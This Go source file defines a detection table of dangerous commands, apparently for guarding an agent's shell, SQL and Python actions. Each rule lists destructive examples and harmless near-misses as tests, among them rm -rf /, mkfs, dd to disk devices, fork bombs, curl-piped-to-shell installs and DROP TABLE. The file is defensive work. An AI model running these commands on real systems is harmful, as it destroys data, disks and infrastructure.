package security

import "sync"

// rule is one row of the danger table. The matching logic lives in the
// shell, SQL and Python analysers, which name the rule by id; the examples
// and near-misses here become one test each (rules_test.go), so a rule cannot
// exist without evidence that it fires and evidence that it is not too broad.
type rule struct {
	id       string
	category string
	why      string
	match    []example // must be classified as this rule
	near     []example // look alike but must not be dangerous at all
}

type example struct {
	ctx Context
	in  string
}

func sh(in ...string) []example  { return examples(Shell, in) }
func sql(in ...string) []example { return examples(SQL, in) }
func py(in ...string) []example  { return examples(Python, in) }
func unk(in ...string) []example { return examples(Unknown, in) }

func examples(ctx Context, in []string) []example {
	out := make([]example, len(in))
	for i, s := range in {
		out[i] = example{ctx, s}
	}
	return out
}

func join(groups ...[]example) []example {
	var out []example
	for _, g := range groups {
		out = append(out, g...)
	}
	return out
}

const (
	catDelete  = "irreversible deletion"
	catDisk    = "disk destruction"
	catSystem  = "system configuration change"
	catPerm    = "permission change"
	catRemote  = "remote code execution"
	catExhaust = "resource exhaustion"
	catAvail   = "system availability"
	catHistory = "history rewrite"
	catInfra   = "infrastructure destruction"
	catData    = "data loss"
)

// rules is the single danger table.
var rules = []rule{
	{"rm-recursive-force", catDelete,
		"This recursively deletes a root, system, home or parent directory (or everything in the working directory), which cannot be undone.",
		join(sh("rm -rf /", "rm -r -f /", "rm --recursive --force /", "sudo rm -rf /var", "rm -Rf /*", "rm -fr ~",
			`rm -rf "$HOME"`, "rm -rf ${HOME}/", "rm -rf ..", "rm -rf ~/*", "rm -rf *", `r\m -rf /etc`, "'rm' -rf /usr",
			"/bin/rm -rf /", "rm -rf --no-preserve-root /", `rm -rf "$STEAMROOT/"*`, "rm -rf -- /", "rm -rf /home/alice",
			"cd /tmp && rm -rf /", "echo hi; (rm -rf /)", "x=$(rm -rf ~)", "echo `rm -rf /`", "f() { rm -rf /; }",
			"env -i rm -rf /", "nice -n 10 rm -rf /", "timeout 5 rm -rf /", "nohup rm -rf / &", "command rm -rf /",
			"exec rm -rf /", "doas rm -rf /", "time rm -rf /", "sudo -u root -- rm -rf /", `bash -c "rm -rf /"`,
			`sh -c 'rm -rf ~'`, `eval "rm -rf /"`, `bash -lc "sudo rm -rf /usr"`, "$(echo rm) -rf /", "$RM -rf /",
			"echo / | xargs rm -rf", "find . -exec rm -rf / \\;", "ssh host rm -rf /", "busybox rm -rf /",
			"rm -rf / (", "for f in x; do rm -rf /", "rm -rf ~/.ssh", "bash <<EOF\nrm -rf $HOME\nEOF",
			"python3 <<EOF\nimport os; os.system('rm -rf /')\nEOF", "yes | rm -rf /"),
			py(`os.system("rm -rf /")`, `subprocess.run(["rm", "-rf", "/"])`, `subprocess.call("sudo rm -rf /etc", shell=True)`, "!rm -rf ~"),
			sql(`\! rm -rf /`), unk("rm -rf /")),
		join(sh("rm -rf ./build", "rm -rf node_modules", "rm -f build.log", "rm -rf ./dist", "rm -rf /tmp/build-123",
			"rm -rf ~/project/target", `echo "rm -rf /"`, "rm -rf $BUILD_DIR", "sudo rm -rf /usr/local/go", "rm /tmp/x",
			"grep -r 'rm -rf /' .", "rm -rf /tmp/*"), py(`os.system("rm -rf build")`))},
	{"rm-system-file", catDelete,
		"This deletes a system file that the operating system needs to boot or run.",
		sh("rm /etc/passwd", "sudo rm -f /boot/vmlinuz", "unlink /etc/shadow", "rm -f /usr/bin/python3"),
		sh("rm -f ./etc/passwd", "rm /tmp/etc-passwd", "cat /etc/passwd", "rm -f /usr/local/bin/mytool")},
	{"find-delete", catDelete,
		"This deletes files under a root, system or home directory found by find, which cannot be undone.",
		sh("find / -delete", "find / -name '*.log' -delete", "sudo find /etc -type f -delete", "find ~ -exec rm {} +", "find $HOME -delete"),
		sh("find . -name '*.pyc' -delete", "find /tmp/cache -mtime +7 -delete", "find / -name passwd", "find ./build -exec rm -rf {} +")},
	{"shred", catDelete,
		"This overwrites a disk or system file so its contents can never be recovered.",
		sh("shred /dev/sda", "shred -n 3 -z /dev/nvme0n1", "sudo shred -u /etc/shadow"),
		sh("shred -u secret.txt", "shred --help", "echo shred /dev/sda", "$EDITOR /etc/hosts")},
	{"mkfs", catDisk,
		"This creates a new filesystem, erasing everything on the target device.",
		sh("mkfs.ext4 /dev/sdb1", "sudo mkfs -t xfs /dev/nvme1n1", "mkswap /dev/sda2", "wipefs -a /dev/sdb"),
		sh("man mkfs.ext4", "which mkfs", "mkfs.ext4 --help", "wipefs /dev/sdb")},
	{"dd-device", catDisk,
		"This writes raw data over a disk device, destroying its partitions and filesystems.",
		sh("dd if=/dev/zero of=/dev/sda", "sudo dd if=image.iso of=/dev/sdb bs=4M status=progress", "dd if=/dev/urandom of=/dev/nvme0n1"),
		sh("dd if=/dev/zero of=./disk.img bs=1M count=10", "dd if=/dev/sda of=backup.img", "dd if=/dev/zero of=/dev/null count=1")},
	{"write-block-device", catDisk,
		"This writes directly to a disk device, corrupting its partitions and filesystems.",
		sh("echo x > /dev/sda", "cat image.bin > /dev/nvme0n1", "cat /dev/urandom | sudo tee /dev/sdb", "cp disk.img /dev/sdc"),
		sh("ls /dev/sda", "echo x > /dev/null", "cat /dev/sda > disk.img", "lsblk /dev/sda")},
	{"write-system-file", catSystem,
		"This overwrites or edits a system configuration file, which can lock users out or break the system.",
		sh("echo 'x' > /etc/passwd", "echo nameserver 1.1.1.1 >> /etc/resolv.conf", "echo x | sudo tee /etc/sudoers",
			"sudo tee -a /etc/hosts < hosts.txt", "sed -i 's/a/b/' /etc/ssh/sshd_config", "sudo sed --in-place -e 's/x/y/' /etc/fstab",
			"cp my.conf /etc/nginx/nginx.conf", "dd if=x of=/etc/passwd", "truncate -s 0 /etc/shadow"),
		sh("cat /etc/passwd", "sed 's/a/b/' /etc/hosts", "cp /etc/hosts ./hosts.bak", "grep root /etc/passwd > out.txt", "tee out.log")},
	{"chmod-recursive-777", catPerm,
		"This makes a whole directory tree writable by every user on the machine.",
		sh("chmod -R 777 .", "chmod -R 0777 /var/www", "chmod --recursive a+rwx ./app", "sudo chmod -vR o+w /srv"),
		sh("chmod 644 file", "chmod 777 script.sh", "chmod -R 755 ./public", "chmod -R u+w ./src")},
	{"chmod-chown-system", catPerm,
		"This recursively changes ownership or permissions of a system or home directory, which can break the system or sudo.",
		sh("chown -R user:user /", "sudo chown -R nobody /etc", "chmod -R 700 /usr", "chgrp -R staff /var", "sudo chmod -R 600 ~"),
		sh("chown -R user:user ./project", "chmod -R g+w ./shared", "chown user /tmp/x", "chmod 600 ~/.ssh/id_ed25519")},
	{"pipe-to-shell", catRemote,
		"This downloads code from the network and runs it immediately without review.",
		sh("curl -fsSL https://example.com/install.sh | sh", "wget -qO- https://x.io/i | sudo bash", "curl https://x.io/s | python3",
			"bash <(curl -s https://x.io/i.sh)", `sh -c "$(curl -fsSL https://x.io/i.sh)"`, `eval "$(wget -O- https://x.io)"`,
			"source <(curl -s https://x.io/env)", "curl -s https://x.io/i | tee log | bash -s -- --yes"),
		sh("curl -o x.tar.gz https://example.com/x.tar.gz", "curl -s https://api.example.com | jq .", "wget https://x.io/i.sh && less i.sh",
			"curl https://x.io | grep bash", "bash install.sh")},
	{"fork-bomb", catExhaust,
		"This defines a function that endlessly copies itself, exhausting processes and freezing the machine.",
		sh(":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f; }; f", ":(){ :|: & }; :"),
		sh("f() { echo hi; }; f", "countdown() { [ $1 -gt 0 ] && countdown $(($1-1)); }", "echo ':(){ :|:& };:'")},
	{"shutdown", catAvail,
		"This shuts down or reboots the machine, ending every session on it.",
		sh("shutdown -h now", "sudo reboot", "halt", "poweroff", "init 0", "sudo systemctl reboot", "systemctl poweroff"),
		sh("shutdown -c", "systemctl status nginx", "echo reboot", "init --version", "sudo systemctl restart nginx")},
	{"kill-all", catAvail,
		"This sends a signal to every process you may signal, killing your whole session and more.",
		sh("kill -9 -1", "kill -1", "kill -KILL -1", "sudo kill -s KILL -1", "kill -- -1"),
		sh("kill 1234", "kill -9 1234", "kill -1 1234", "pkill node", "killall -q node")},
	{"git-force-push-main", catHistory,
		"This rewrites or deletes the history of main/master on the remote, which others may depend on.",
		sh("git push --force origin main", "git push -f origin master", "git push origin +main", "git push -fu origin HEAD:main",
			"git -C repo push --force origin refs/heads/master", "git push origin --delete main", "git push origin :master"),
		sh("git push --force-with-lease origin main", "git push -f origin feature/x", "git push origin main", "git reset --hard HEAD~1",
			"git push --force origin main-fix")},
	{"git-clean", catDelete,
		"This deletes untracked (and possibly ignored) files and directories in the repository, which cannot be undone.",
		sh("git clean -fdx", "git clean -f -d", "git clean --force -x", "git clean -fxd ."),
		sh("git clean -n -dx", "git clean -fdn", "git status", "git clean -f")},
	{"terraform-destroy", catInfra,
		"This destroys every resource managed by this Terraform configuration.",
		sh("terraform destroy", "terraform destroy -auto-approve", "terraform -chdir=infra destroy", "terraform apply -destroy", "tofu destroy"),
		sh("terraform plan -destroy", "terraform plan", "terraform apply", "echo terraform destroy")},
	{"kubectl-delete-namespace", catInfra,
		"This deletes a Kubernetes namespace or every resource of a kind, with everything running in it.",
		sh("kubectl delete namespace prod", "kubectl delete ns staging", "kubectl delete pods --all", "kubectl -n prod delete deploy --all",
			"kubectl delete namespaces a b", "kubectl delete ns/prod"),
		sh("kubectl delete pod web-1", "kubectl get ns", "kubectl describe namespace prod", "kubectl delete -f app.yaml")},
	{"docker-prune-all", catDelete,
		"This deletes all unused Docker images, containers and volumes, including volume data.",
		sh("docker system prune -a --volumes", "docker system prune --volumes -f", "docker system prune --all", "docker volume prune -a"),
		sh("docker system prune", "docker system df", "docker image prune", "docker volume ls")},
	{"redis-flush", catData,
		"This deletes every key in the Redis database.",
		join(sh("redis-cli flushall", "redis-cli -h cache -n 2 FLUSHDB", "redis-cli FLUSHALL ASYNC"), unk("FLUSHALL")),
		sh("redis-cli get key", "redis-cli info", "echo flushall")},
	{"dropdb", catData,
		"This drops a whole database with all its data.",
		sh("dropdb production", "dropdb -h db -U admin app", "mysqladmin -u root drop app"),
		sh("dropdb --help", "createdb app", "mysqladmin status")},
	{"sql-drop", catData,
		"This drops a database object (table, database, schema, column...) and all the data in it.",
		join(sql("DROP TABLE users;", "drop database app", "DROP SCHEMA public CASCADE;", "ALTER TABLE users DROP COLUMN email;",
			"SELECT 1; DROP TABLE t;", "/* cleanup */ DROP VIEW v"),
			sh(`psql -c "DROP TABLE users"`, "psql <<< 'DROP TABLE x'", `mysql -e 'drop database app'`, `sqlite3 app.db "DROP TABLE t"`),
			unk("DROP TABLE users;"), py(`cur.execute("DROP TABLE users")`)),
		join(sql("SELECT * FROM t WHERE x=1", "SELECT 'DROP TABLE x'", "-- DROP TABLE x\nSELECT 1", "SELECT drop_count FROM stats",
			"ALTER TABLE t DROP CONSTRAINT fk"), sh("grep 'DROP TABLE' dump.sql"))},
	{"sql-truncate", catData,
		"This deletes every row of the table.",
		join(sql("TRUNCATE TABLE orders;", "truncate users", "TRUNCATE orders, items CASCADE"), unk("TRUNCATE TABLE orders")),
		join(sql("SELECT TRUNCATE(1.23, 1)", "SELECT 'truncate table x'"), unk("truncate -s 0 app.log"))},
	{"sql-delete-no-where", catData,
		"This deletes every row of the table because the DELETE has no WHERE clause.",
		join(sql("DELETE FROM users;", "delete from t", "WITH x AS (SELECT 1) DELETE FROM t", "DELETE FROM t -- WHERE id=1"), unk("DELETE FROM users;")),
		sql("DELETE FROM t WHERE id=3", "delete from t where created_at < now() - interval '1 day'", "SELECT 'DELETE FROM t'")},
	{"sql-update-no-where", catData,
		"This changes every row of the table because the UPDATE has no WHERE clause.",
		join(sql("UPDATE users SET admin = true;", "update t set x = (select 1 from y where z = 1)"), unk("UPDATE accounts SET balance = 0")),
		join(sql("UPDATE users SET admin = false WHERE id = 7", "SELECT 'UPDATE t SET x=1'"), unk("update-alternatives --config java"))},
	{"sql-grant-public", catPerm,
		"This grants every privilege to every database user.",
		sql("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;", "grant all privileges on database app to public"),
		sql("GRANT SELECT ON t TO reporting", "GRANT ALL ON t TO alice")},
	{"py-rmtree", catDelete,
		"This recursively deletes a directory tree whose path is unknown or important.",
		py("shutil.rmtree('/')", "import shutil; shutil.rmtree(path)", "from shutil import rmtree; rmtree(os.path.expanduser('~'))", "shutil.rmtree('/etc')"),
		py("shutil.rmtree('build')", "print('shutil.rmtree(\"/\")')", "# shutil.rmtree('/')", "shutil.rmtree('./dist', ignore_errors=True)")},
	{"py-remove-system", catDelete,
		"This deletes a system file that the operating system needs.",
		py("os.remove('/etc/passwd')", "os.unlink(\"/boot/vmlinuz\")", "pathlib.Path('/etc/shadow').unlink()"),
		py("os.remove('out.txt')", "os.unlink(tmp)", "open('/etc/passwd').read()")},
}

// safeInputs are ordinary inputs that no rule may flag.
var safeInputs = join(
	sh("ls -la", "git status", "git reset --hard HEAD~1", "kill 1234", "cat /etc/passwd", "ls /dev/sda", "chmod 644 file",
		"curl -o x.tar.gz https://example.com/x.tar.gz", "dd if=/dev/zero of=./disk.img", "make -j8 && ./bin/app",
		"docker run --rm -it ubuntu bash", "npm install", "go test ./...", "echo $HOME", "cd ~ && ls", "sudo apt-get update",
		"python3 script.py", "for f in *.go; do gofmt -l $f; done", "tar xzf x.tar.gz -C /tmp", ""),
	sql("SELECT * FROM t WHERE x=1", "DELETE FROM t WHERE id=3", "INSERT INTO t VALUES (1, 'DROP TABLE t')", `\dt`, "CREATE TABLE t (id int)"),
	py("print('hello')", "import os; os.listdir('/')", "subprocess.run(['ls', '-la'])", "x = [1, 2, 3]", "os.system('make')"),
	unk("console.log('hello')", "SELECT 1;", "help", "ls -la"),
)

var ruleIndex = sync.OnceValue(func() map[string]rule {
	m := make(map[string]rule, len(rules))
	for _, r := range rules {
		m[r.id] = r
	}
	return m
})
